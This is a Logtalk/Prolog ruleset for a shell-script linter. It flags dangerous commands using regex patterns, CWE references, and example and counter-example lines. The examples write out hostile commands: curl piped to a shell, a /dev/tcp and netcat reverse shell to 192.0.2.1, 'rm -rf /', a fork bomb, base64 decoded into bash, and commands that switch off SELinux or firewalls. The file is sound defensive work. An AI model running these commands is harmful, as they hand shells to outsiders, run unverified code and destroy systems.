% SPDX-License-Identifier: MPL-2.0
:- object(calls_shell,
	implements(ruleset)).

	:- info([
		version is 1:0:0,
		comment is 'Dangerous commands in shell scripts.'
	]).

	:- discontiguous([
		rule/5, help/2, pattern/2, keyword/2, language/2, path/2, except_match/2, except_line/2, reference/2,
		example/2, counter_example/2
	]).

	% schema/RULESET.md says what the facts mean. These rules look at text, not at syntax: they say where to look, and
	% leave out what can be told to be harmless.

	except_line(_, '^\\s*#').

	rule(sh_pipe_to_shell, diagnostic, high, code, 'What the server sends is run at once').
	help(sh_pipe_to_shell, 'Save it, check its hash or signature, then run it.').
	pattern(sh_pipe_to_shell, '\\b(?:curl|wget|fetch)\\b[^\\n|;&#\\x00]{0,300}\\|\\s*(?:sudo\\s+(?:-\\w+\\s+){0,3})?(?:env\\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|da|k|a)?sh\\b').
	keyword(sh_pipe_to_shell, curl).
	keyword(sh_pipe_to_shell, wget).
	keyword(sh_pipe_to_shell, fetch).
	language(sh_pipe_to_shell, shell).
	reference(sh_pipe_to_shell, cwe(494)).
	example(sh_pipe_to_shell, 'curl -fsSL https://get.example.org | sh').
	example(sh_pipe_to_shell, 'wget -qO- https://example.org/i | sudo bash -s --').
	counter_example(sh_pipe_to_shell, 'curl -fsSL https://example.org/i -o i.sh').
	counter_example(sh_pipe_to_shell, 'curl https://example.org | sha256sum').

	rule(sh_shell_substitution, diagnostic, high, code, 'What the server sends is run at once').
	help(sh_shell_substitution, 'Save it, check its hash or signature, then run it.').
	pattern(sh_shell_substitution, '(?:\\b(?:ba|z|da|k)?sh\\s+-c\\s+["\\\']?\\$\\(|\\beval\\s+["\\\']?\\$\\(|(?:\\bsource|(?<![\\w.])\\.)\\s+<\\(|\\b(?:ba|z)sh\\s+<\\()\\s*(?:curl|wget)\\b').
	keyword(sh_shell_substitution, curl).
	keyword(sh_shell_substitution, wget).
	language(sh_shell_substitution, shell).
	reference(sh_shell_substitution, cwe(494)).
	example(sh_shell_substitution, 'sh -c "$(curl -fsSL https://example.org/install.sh)"').
	example(sh_shell_substitution, 'source <(curl -s https://example.org/env)').
	example(sh_shell_substitution, 'bash <(wget -qO- https://example.org/i)').
	counter_example(sh_shell_substitution, 'version=$(curl -s https://example.org/version)').

	rule(sh_pipe_to_interpreter, diagnostic, high, code, 'What the server sends is run at once').
	help(sh_pipe_to_interpreter, 'Save it, check its hash or signature, then run it.').
	pattern(sh_pipe_to_interpreter, '\\b(?:curl|wget)\\b[^\\n|;&#\\x00]{0,300}\\|\\s{0,20}(?:sudo\\s+)?(?:python[\\d.]{0,5}|perl|ruby|node|php)(?:\\s{1,20}-\\s{0,20})?(?:\\s{0,20}$|\\s{0,20}[;&|\\n])').
	keyword(sh_pipe_to_interpreter, curl).
	keyword(sh_pipe_to_interpreter, wget).
	language(sh_pipe_to_interpreter, shell).
	reference(sh_pipe_to_interpreter, cwe(494)).
	example(sh_pipe_to_interpreter, 'curl -s https://example.org/get.py | python3 -').
	example(sh_pipe_to_interpreter, 'wget -qO- https://example.org/x | perl').
	counter_example(sh_pipe_to_interpreter, 'curl -s https://example.org/x.json | python3 -m json.tool').

	rule(sh_base64_to_shell, diagnostic, high, code, 'Encoded text is decoded and run').
	help(sh_base64_to_shell, 'Keep the script readable.').
	pattern(sh_base64_to_shell, '\\bbase64\\s+(?:-d|-D|--decode)\\b[^\\n|;&\\x00]{0,100}\\|\\s*(?:sudo\\s+)?(?:ba|z|da|k)?sh\\b').
	keyword(sh_base64_to_shell, base64).
	language(sh_base64_to_shell, shell).
	reference(sh_base64_to_shell, cwe(506)).
	example(sh_base64_to_shell, 'echo "$script" | base64 -d | bash').
	counter_example(sh_base64_to_shell, 'echo "$text" | base64 -d > file').

	rule(sh_tls_no_verify, diagnostic, high, code, 'Nobody checks whom the connection reaches').
	help(sh_tls_no_verify, 'Leave verification on; name a CA file where needed.').
	pattern(sh_tls_no_verify, '\\bcurl\\b[^\\n|;&#\\x00]{0,300}?\\s(?:--insecure\\b|-[a-zA-Z]{0,8}k[a-zA-Z]{0,8}(?=\\s|$))|\\bwget\\b[^\\n|;&#\\x00]{0,300}?--no-check-certificate\\b|\\bGIT_SSL_NO_VERIFY=(?:1|true)|\\bhttp\\.sslVerify[= ]\\s*["\\\']?(?:false|0)|\\bstrict-ssl[= ]\\s*false').
	keyword(sh_tls_no_verify, curl).
	keyword(sh_tls_no_verify, wget).
	keyword(sh_tls_no_verify, git_ssl_no_verify).
	keyword(sh_tls_no_verify, sslverify).
	keyword(sh_tls_no_verify, 'strict-ssl').
	language(sh_tls_no_verify, shell).
	reference(sh_tls_no_verify, cwe(295)).
	example(sh_tls_no_verify, 'curl -k https://example.org').
	example(sh_tls_no_verify, 'curl -sSkL https://example.org').
	example(sh_tls_no_verify, 'wget --no-check-certificate https://example.org').
	example(sh_tls_no_verify, 'git config --global http.sslVerify false').
	counter_example(sh_tls_no_verify, 'curl -sSL https://example.org').
	counter_example(sh_tls_no_verify, 'wget https://example.org').

	rule(sh_ssh_no_host_key, diagnostic, medium, code, 'Any host key is accepted').
	help(sh_ssh_no_host_key, 'Put the host keys into a known_hosts file.').
	pattern(sh_ssh_no_host_key, '(?i)\\bStrictHostKeyChecking[= ]\\s*["\\\']?(?:no|off)\\b|\\bUserKnownHostsFile[= ]\\s*["\\\']?/dev/null').
	keyword(sh_ssh_no_host_key, stricthostkeychecking).
	keyword(sh_ssh_no_host_key, userknownhostsfile).
	language(sh_ssh_no_host_key, shell).
	reference(sh_ssh_no_host_key, cwe(295)).
	example(sh_ssh_no_host_key, 'ssh -o StrictHostKeyChecking=no host.example.org').
	counter_example(sh_ssh_no_host_key, 'ssh -o StrictHostKeyChecking=yes host.example.org').
	counter_example(sh_ssh_no_host_key, 'StrictHostKeyChecking=accept-new').

	rule(sh_eval, diagnostic, medium, code, 'eval reads the value as a command').
	help(sh_eval, 'Call the command with its arguments, or use an array.').
	pattern(sh_eval, '(?:^|[;&|({]|\\bthen|\\bdo|\\belse)\\s*eval\\s+["\\\']?(?:[^\\n\\x00]{0,80}?)\\$(?!\\()[{\\w@*]').
	keyword(sh_eval, eval).
	language(sh_eval, shell).
	reference(sh_eval, cwe(95)).
	example(sh_eval, 'eval "$command"').
	example(sh_eval, '    eval $args').
	counter_example(sh_eval, 'evaluate "$x"').
	counter_example(sh_eval, 'echo "eval is evil"').

	rule(sh_chmod_world, diagnostic, high, code, 'Everybody may write to it').
	help(sh_chmod_world, 'Give the group and others no more than they need.').
	pattern(sh_chmod_world, '\\bchmod\\s+(?:-[a-zA-Z]{1,5}\\s+|--\\w{1,20}\\s+){0,3}(?:0?[0-7]?[0-7][0-7][2367]|(?:a|o|ugo|go|uo)?[+=]r?w[xX]?|o\\+w|a\\+rwx)\\b').
	keyword(sh_chmod_world, chmod).
	language(sh_chmod_world, shell).
	reference(sh_chmod_world, cwe(732)).
	example(sh_chmod_world, 'chmod 777 /srv/data').
	example(sh_chmod_world, 'chmod -R 0666 logs').
	example(sh_chmod_world, 'chmod a+rwx file').
	counter_example(sh_chmod_world, 'chmod 755 script').
	counter_example(sh_chmod_world, 'chmod +x script').
	counter_example(sh_chmod_world, 'chmod u+w file').

	rule(sh_rm_variable_root, diagnostic, high, code, 'When the variable is empty, everything is removed').
	help(sh_rm_variable_root, 'Use "${name:?}".').
	pattern(sh_rm_variable_root, '\\brm\\s+(?:-[a-zA-Z]{1,6}\\s+|--\\w{1,20}\\s+){1,3}["\\\']?\\$(?:\\w{1,60}|\\{\\w{1,60}\\})["\\\']?/(?:["\\\']?\\*|["\\\']?(?:\\s|$|;))').
	keyword(sh_rm_variable_root, rm).
	language(sh_rm_variable_root, shell).
	reference(sh_rm_variable_root, cwe(670)).
	example(sh_rm_variable_root, 'rm -rf "$folder"/*').
	example(sh_rm_variable_root, 'rm -rf $HOME_DIR/').
	counter_example(sh_rm_variable_root, 'rm -rf "${folder:?}"/*').
	counter_example(sh_rm_variable_root, 'rm -rf "$folder/build"').

	rule(sh_rm_root, diagnostic, critical, code, 'This removes everything').
	help(sh_rm_root, 'Name the folder that is meant.').
	pattern(sh_rm_root, '\\brm\\s+(?:-[a-zA-Z]{0,6}[rR][a-zA-Z]{0,6}\\s+|--recursive\\s+|--force\\s+|-f\\s+|--no-preserve-root\\s+){1,4}["\\\']?/(?:\\*|["\\\']?(?:\\s|$|;|&))').
	keyword(sh_rm_root, rm).
	language(sh_rm_root, shell).
	reference(sh_rm_root, cwe(670)).
	example(sh_rm_root, 'rm -rf /').
	example(sh_rm_root, 'rm -rf --no-preserve-root / ').
	counter_example(sh_rm_root, 'rm -rf /tmp/build').
	counter_example(sh_rm_root, 'rm -rf ./').

	rule(sh_mktemp_dry, diagnostic, medium, code, 'The name is known before the file is made: somebody else may make it first').
	help(sh_mktemp_dry, 'Leave out -u.').
	pattern(sh_mktemp_dry, '\\bmktemp\\s+(?:-\\w{1,6}\\s+){0,3}(?:-[a-zA-Z]{0,5}u[a-zA-Z]{0,5}|--dry-run)\\b|\\btempfile\\b\\s*(?:$|\\))').
	keyword(sh_mktemp_dry, mktemp).
	keyword(sh_mktemp_dry, tempfile).
	language(sh_mktemp_dry, shell).
	reference(sh_mktemp_dry, cwe(377)).
	example(sh_mktemp_dry, 'name=$(mktemp -u)').
	counter_example(sh_mktemp_dry, 'name=$(mktemp)').
	counter_example(sh_mktemp_dry, 'dir=$(mktemp -d)').

	rule(sh_fixed_tmp, diagnostic, low, code, 'A fixed name in a folder where everybody writes: somebody else may make it first').
	help(sh_fixed_tmp, 'Use mktemp.').
	pattern(sh_fixed_tmp, '>{1,2}\\s*["\\\']?/(?:var/)?tmp/[\\w.\\-]{1,60}["\\\']?(?:\\s|$|;|&)').
	keyword(sh_fixed_tmp, '/tmp').
	language(sh_fixed_tmp, shell).
	reference(sh_fixed_tmp, cwe(377)).
	example(sh_fixed_tmp, 'make > /tmp/build.log 2>&1').
	counter_example(sh_fixed_tmp, 'make > "$log"').
	counter_example(sh_fixed_tmp, 'cat /tmp/build.log').
	counter_example(sh_fixed_tmp, 'echo > "/tmp/$name.$$"').

	rule(sh_password_argument, diagnostic, medium, code, 'Everybody on the machine sees arguments').
	help(sh_password_argument, 'Read it from a file or from stdin.').
	pattern(sh_password_argument, '(?:\\becho\\s+(?:-n\\s+)?["\\\']?[^\\s"\\\'$|]{4,60}["\\\']?\\s*\\|\\s*(?:sudo\\s+-S|passwd\\s+--stdin|chpasswd|docker\\s+login)|\\bsshpass\\s+-p\\s*["\\\']?[^\\s$"\\\'-])').
	keyword(sh_password_argument, sudo).
	keyword(sh_password_argument, passwd).
	keyword(sh_password_argument, chpasswd).
	keyword(sh_password_argument, docker).
	keyword(sh_password_argument, sshpass).
	language(sh_password_argument, shell).
	reference(sh_password_argument, cwe(214)).
	example(sh_password_argument, 'echo hunter2hunter | sudo -S make install').
	example(sh_password_argument, 'sshpass -p hunter2 ssh host').
	counter_example(sh_password_argument, 'echo "$PASSWORD" | docker login --password-stdin').
	counter_example(sh_password_argument, 'sshpass -e ssh host').

	rule(sh_unauthenticated_packages, diagnostic, high, code, 'Packages are installed without a look at their signature').
	help(sh_unauthenticated_packages, 'Add the repository\'s key.').
	pattern(sh_unauthenticated_packages, '\\bapt(?:-get)?\\b[^\\n;|&\\x00]{0,200}--(?:allow-unauthenticated|force-yes|allow-insecure-repositories)\\b|\\b(?:yum|dnf|zypper)\\b[^\\n;|&\\x00]{0,200}--(?:nogpgcheck|no-gpg-checks)\\b|\\bapk\\b[^\\n;|&\\x00]{0,100}--allow-untrusted\\b|\\[trusted=yes\\]').
	keyword(sh_unauthenticated_packages, 'allow-unauthenticated').
	keyword(sh_unauthenticated_packages, 'force-yes').
	keyword(sh_unauthenticated_packages, 'allow-insecure').
	keyword(sh_unauthenticated_packages, nogpgcheck).
	keyword(sh_unauthenticated_packages, 'no-gpg-checks').
	keyword(sh_unauthenticated_packages, 'allow-untrusted').
	keyword(sh_unauthenticated_packages, trusted).
	language(sh_unauthenticated_packages, shell).
	reference(sh_unauthenticated_packages, cwe(347)).
	example(sh_unauthenticated_packages, 'apt-get install -y --allow-unauthenticated tool').
	example(sh_unauthenticated_packages, 'dnf install --nogpgcheck tool').
	example(sh_unauthenticated_packages, 'apk add --allow-untrusted tool.apk').
	counter_example(sh_unauthenticated_packages, 'apt-get install -y tool').

	rule(sh_pip_trusted_host, diagnostic, medium, code, 'Packages come over a connection that nobody checks').
	help(sh_pip_trusted_host, 'Use TLS.').
	pattern(sh_pip_trusted_host, '\\bpip[\\d.]{0,4}\\b[^\\n;|&\\x00]{0,200}--trusted-host\\b|\\bpip[\\d.]{0,4}\\b[^\\n;|&\\x00]{0,200}(?:--index-url|-i|--extra-index-url)[= ]http://').
	keyword(sh_pip_trusted_host, pip).
	language(sh_pip_trusted_host, shell).
	reference(sh_pip_trusted_host, cwe(295)).
	example(sh_pip_trusted_host, 'pip install --trusted-host example.org tool').
	example(sh_pip_trusted_host, 'pip3 install -i http://example.org/simple tool').
	counter_example(sh_pip_trusted_host, 'pip install tool').

	rule(sh_docker_privileged, diagnostic, high, code, 'The container has the rights of the machine\'s root').
	help(sh_docker_privileged, 'Give the capabilities that it needs.').
	pattern(sh_docker_privileged, '\\b(?:docker|podman|nerdctl)\\s+(?:run|create|exec)\\b[^\\n;|\\x00]{0,400}?(?:--privileged\\b|--cap-add[= ](?:ALL|SYS_ADMIN)\\b|--(?:pid|net|network|ipc|userns)[= ]host\\b|/var/run/docker\\.sock)').
	keyword(sh_docker_privileged, docker).
	keyword(sh_docker_privileged, podman).
	keyword(sh_docker_privileged, nerdctl).
	language(sh_docker_privileged, shell).
	reference(sh_docker_privileged, cwe(250)).
	example(sh_docker_privileged, 'docker run --privileged image').
	example(sh_docker_privileged, 'docker run -v /var/run/docker.sock:/var/run/docker.sock image').
	counter_example(sh_docker_privileged, 'docker run --rm image').

	rule(sh_find_exec_shell, diagnostic, medium, code, 'File names become part of the command').
	help(sh_find_exec_shell, 'Pass the name as an argument: sh -c \'...\' sh {}.').
	pattern(sh_find_exec_shell, '\\bfind\\b[^\\n;|\\x00]{0,300}-exec(?:dir)?\\s+(?:ba|z|da)?sh\\s+-c\\s+(?:"[^"\\n\\x00]{0,200}\\{\\}|\\\'[^\\\'\\n\\x00]{0,200}\\{\\})').
	keyword(sh_find_exec_shell, find).
	language(sh_find_exec_shell, shell).
	reference(sh_find_exec_shell, cwe(78)).
	example(sh_find_exec_shell, 'find . -exec sh -c \'mv {} old\' \\;').
	counter_example(sh_find_exec_shell, 'find . -exec sh -c \'mv "$1" old\' sh {} \\;').
	counter_example(sh_find_exec_shell, 'find . -exec rm {} +').

	rule(sh_xargs_names, diagnostic, low, code, 'Names with spaces or newlines are taken apart').
	help(sh_xargs_names, 'Use -print0 and xargs -0.').
	pattern(sh_xargs_names, '\\bfind\\b(?![^\\n|\\x00]{0,300}-print0)[^\\n|;\\x00]{0,300}\\|\\s*xargs\\s+(?!-\\w*0|--null)').
	keyword(sh_xargs_names, find).
	language(sh_xargs_names, shell).
	reference(sh_xargs_names, cwe(78)).
	example(sh_xargs_names, 'find . -name "*.o" | xargs rm').
	counter_example(sh_xargs_names, 'find . -name "*.o" -print0 | xargs -0 rm').

	rule(sh_reverse_shell, diagnostic, critical, code, 'A shell is given to another machine').
	help(sh_reverse_shell, 'Remove it.').
	pattern(sh_reverse_shell, '/dev/tcp/[\\w.$\\{\\}-]{1,60}/[\\w$\\{\\}]{1,20}\\s*(?:0>&1|<&|>&)|\\bn(?:c|cat|etcat)\\s+(?:-\\w{1,6}\\s+){0,4}(?:-e|--exec|-c)\\s+["\\\']?/?(?:usr/)?(?:bin/)?(?:ba|z|da)?sh\\b|>&\\s*/dev/tcp/').
	keyword(sh_reverse_shell, '/dev/tcp').
	keyword(sh_reverse_shell, nc).
	keyword(sh_reverse_shell, ncat).
	keyword(sh_reverse_shell, netcat).
	language(sh_reverse_shell, shell).
	reference(sh_reverse_shell, cwe(506)).
	example(sh_reverse_shell, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1').
	example(sh_reverse_shell, 'nc -e /bin/sh 192.0.2.1 4444').
	counter_example(sh_reverse_shell, 'nc -z host 80').

	rule(sh_fork_bomb, diagnostic, critical, code, 'This starts processes until the machine stops').
	help(sh_fork_bomb, 'Remove it.').
	pattern(sh_fork_bomb, ':\\s*\\(\\s*\\)\\s*\\{\\s*:\\s*\\|\\s*:\\s*&\\s*\\}\\s*;\\s*:').
	keyword(sh_fork_bomb, ':').
	language(sh_fork_bomb, shell).
	reference(sh_fork_bomb, cwe(400)).
	example(sh_fork_bomb, ':(){ :|:& };:').
	counter_example(sh_fork_bomb, 'f() { :; }; f').

	rule(sh_weak_cipher, diagnostic, medium, code, 'The cipher is broken, or the password is on the command line').
	help(sh_weak_cipher, 'Use a tool such as age.').
	pattern(sh_weak_cipher, '\\bopenssl\\s+(?:enc\\s+)?-?(?:des(?:3|-[\\w-]{2,12})?|rc[24][\\w-]{0,10}|bf[\\w-]{0,10}|aes-\\d{3}-ecb)\\b|\\bopenssl\\s+(?:dgst\\s+-(?:md5|sha1)|md5|sha1)\\b').
	keyword(sh_weak_cipher, openssl).
	language(sh_weak_cipher, shell).
	reference(sh_weak_cipher, cwe(327)).
	example(sh_weak_cipher, 'openssl enc -des3 -in a -out b').
	example(sh_weak_cipher, 'openssl dgst -md5 file').
	counter_example(sh_weak_cipher, 'openssl dgst -sha256 file').

	rule(sh_umask_zero, diagnostic, medium, code, 'New files may be written by everybody').
	help(sh_umask_zero, 'Use umask 077, or 022.').
	pattern(sh_umask_zero, '(?m)(?<![^;&\\s])umask\\s{1,20}0{1,4}(?:\\s|$|;)').
	keyword(sh_umask_zero, umask).
	language(sh_umask_zero, shell).
	reference(sh_umask_zero, cwe(732)).
	example(sh_umask_zero, 'umask 000').
	counter_example(sh_umask_zero, 'umask 022').
	counter_example(sh_umask_zero, 'umask 077').

	rule(sh_http_download, diagnostic, low, code, 'The download can be changed on its way').
	help(sh_http_download, 'Use https.').
	pattern(sh_http_download, '\\b(?:curl|wget)\\b[^\\n|;&#\\x00]{0,200}?\\shttp://(?!localhost|127\\.|\\[::1\\]|\\$|10\\.|192\\.168\\.|host\\.docker|169\\.254\\.)[\\w.\\-]{3,100}\\.[a-z]{2,}[^\\s"\\\']{0,200}\\.(?:sh|tar|tgz|gz|xz|bz2|zip|deb|rpm|apk|whl|jar|bin|exe|run|py|AppImage)\\b').
	keyword(sh_http_download, 'http://').
	language(sh_http_download, shell).
	reference(sh_http_download, cwe(319)).
	example(sh_http_download, 'curl -LO http://example.org/tool.tar.gz').
	counter_example(sh_http_download, 'curl -LO https://example.org/tool.tar.gz').
	counter_example(sh_http_download, 'curl http://localhost:8080/x.zip').

	rule(sh_git_clone_http, diagnostic, low, code, 'The connection is not protected').
	help(sh_git_clone_http, 'Use https or ssh.').
	pattern(sh_git_clone_http, '\\bgit\\s+clone\\s+(?:--?[\\w=\\-]{1,40}\\s+){0,6}(?:http|git)://(?!localhost|127\\.)').
	keyword(sh_git_clone_http, clone).
	language(sh_git_clone_http, shell).
	reference(sh_git_clone_http, cwe(319)).
	example(sh_git_clone_http, 'git clone git://example.org/tool.git').
	counter_example(sh_git_clone_http, 'git clone https://example.org/tool.git').

	rule(sh_ifs_path, diagnostic, low, code, 'The current folder in PATH lets anybody\'s file be the command').
	help(sh_ifs_path, 'Leave out the dot.').
	pattern(sh_ifs_path, '(?m)\\bPATH=(?:["\\\']?\\.:|[^\\n\\x00]{0,300}:\\.(?::|["\\\']?\\s*$))').
	keyword(sh_ifs_path, path).
	language(sh_ifs_path, shell).
	reference(sh_ifs_path, cwe(426)).
	example(sh_ifs_path, 'PATH=.:$PATH').
	example(sh_ifs_path, 'export PATH="$PATH:."').
	counter_example(sh_ifs_path, 'PATH=$HOME/bin:$PATH').
	counter_example(sh_ifs_path, 'PATH="$PATH:./node_modules/.bin"').

	rule(sh_sudo_nopasswd, diagnostic, medium, code, 'Every command may be run as root without a password').
	help(sh_sudo_nopasswd, 'Name the commands.').
	pattern(sh_sudo_nopasswd, '\\bALL\\s*=\\s*\\(?(?:ALL|root)(?:\\s*:\\s*ALL)?\\)?\\s*NOPASSWD\\s*:\\s*ALL\\b').
	keyword(sh_sudo_nopasswd, nopasswd).
	language(sh_sudo_nopasswd, shell).
	reference(sh_sudo_nopasswd, cwe(250)).
	example(sh_sudo_nopasswd, 'echo "deploy ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers').
	counter_example(sh_sudo_nopasswd, 'echo "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl" >> /etc/sudoers').

	rule(sh_disable_protection, diagnostic, medium, code, 'A protection of the machine is switched off').
	help(sh_disable_protection, 'Make an exception for what needs one.').
	pattern(sh_disable_protection, '\\bsetenforce\\s+0\\b|\\bufw\\s+disable\\b|\\bsystemctl\\s+(?:stop|disable|mask)\\s+(?:--now\\s+)?(?:firewalld|apparmor|auditd|ufw)\\b|\\biptables\\s+-F\\b(?![ \\t]+\\w)|\\bsysctl\\s+-w\\s+kernel\\.randomize_va_space=0').
	keyword(sh_disable_protection, setenforce).
	keyword(sh_disable_protection, ufw).
	keyword(sh_disable_protection, systemctl).
	keyword(sh_disable_protection, iptables).
	keyword(sh_disable_protection, randomize_va_space).
	language(sh_disable_protection, shell).
	reference(sh_disable_protection, cwe(693)).
	example(sh_disable_protection, 'setenforce 0').
	example(sh_disable_protection, 'systemctl disable --now firewalld').
	counter_example(sh_disable_protection, 'setenforce 1').
	counter_example(sh_disable_protection, 'systemctl stop nginx').

:- end_object.
